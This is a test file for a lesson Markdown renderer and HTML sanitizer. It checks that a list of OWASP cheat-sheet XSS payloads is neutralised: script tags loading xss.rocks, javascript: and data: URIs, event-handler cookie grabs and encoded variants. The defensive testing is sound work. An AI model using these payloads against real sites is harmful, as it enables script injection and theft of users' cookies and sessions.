import { Parser } from 'htmlparser2';
import { renderLessonMarkdown, sanitizeLessonHtml } from './render-markdown';

/** Payloads from the OWASP XSS filter evasion cheat sheet, written into lesson Markdown. */
const OWASP_PAYLOADS = [
  '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '<svg/onload=alert(\'XSS\')>',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg><script>alert(1)</script></svg>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '[click me](javascript:alert(1))',
  '[click me](JAVASCRIPT:alert(1))',
  '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](javascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
];

const ALLOWED_ELEMENTS = new Set(['iframe', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code', 'em', 'strong', 's', 'del', 'ul', 'ol', 'li', 'a', 'img', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'sup', 'sub']);

/** Parses the output as a browser would and lists everything that could run script. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ALLOWED_ELEMENTS.has(name)) found.push(`<${name}>`);
      for (const [attr, value] of Object.entries(attributes)) {
        if (attr.startsWith('on')) found.push(`${name}[${attr}]`);
        if ((attr === 'href' || attr === 'src') && !/^(https?:|mailto:|#|\/)/i.test(value.trim())) found.push(`${name}[${attr}=${value}]`);
        if (attr === 'style' && /url|expression/i.test(value)) found.push(`${name}[style]`);
        if (name === 'iframe' && attr === 'src' && !/^https:\/\/(www\.youtube-nocookie\.com|player\.vimeo\.com)\//.test(value)) found.push(`iframe[src=${value}]`);
      }
    },
  }, { decodeEntities: true });
  parser.write(html);
  parser.end();
  return found;
}

describe('renderLessonMarkdown', () => {
  it('renders ordinary Markdown, in Lao too', () => {
    const html = renderLessonMarkdown('# ຄວາມປອດໄພທາງໄຊເບີ\n\nໃຊ້ **ລະຫັດຜ່ານ** ທີ່ຍາວ. See [NIST](https://pages.nist.gov/800-63-3/).\n\n- one\n- two');
    expect(html).toContain('<h1>ຄວາມປອດໄພທາງໄຊເບີ</h1>');
    expect(html).toContain('<strong>ລະຫັດຜ່ານ</strong>');
    expect(html).toContain('<a href="https://pages.nist.gov/800-63-3/" rel="noopener noreferrer nofollow" target="_blank">NIST</a>');
    expect(html).toContain('<li>two</li>');
  });

  it.each(OWASP_PAYLOADS)('neutralises %s', (payload) => {
    for (const source of [payload, `Intro\n\n${payload}\n\nOutro`, `> ${payload}`, `- ${payload}`]) {
      expect(dangers(renderLessonMarkdown(source))).toEqual([]);
    }
  });

  it('turns a lone link to an allowed video host into a lazy, sandboxed player, and nothing else', () => {
    const html = renderLessonMarkdown('Watch:\n\nhttps://www.youtube.com/watch?v=dQw4w9WgXcQ\n\nand [this one](https://vimeo.com/76979871).');
    expect(html).toContain('<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"');
    expect(html).toContain('sandbox="allow-scripts allow-same-origin allow-presentation"');
    expect(html).toContain('<a href="https://vimeo.com/76979871"');
    expect(renderLessonMarkdown('https://evil.example/watch?v=dQw4w9WgXcQ')).not.toContain('<iframe');
    expect(renderLessonMarkdown('https://vimeo.com/76979871', ['www.youtube-nocookie.com'])).not.toContain('<iframe');
    expect(sanitizeLessonHtml('<iframe src="https://evil.example/x"></iframe><iframe src="javascript:alert(1)"></iframe>')).toBe('');
  });

  it('detects a dangerous fragment when one is there, so the checks above can fail', () => {
    expect(dangers('<p onclick="x()"><script>1</script><a href="javascript:alert(1)">a</a></p>')).toEqual(['p[onclick]', '<script>', 'a[href=javascript:alert(1)]']);
  });

  it('strips the same payloads when handed HTML directly', () => {
    for (const payload of OWASP_PAYLOADS) expect(dangers(sanitizeLessonHtml(payload))).toEqual([]);
  });
});
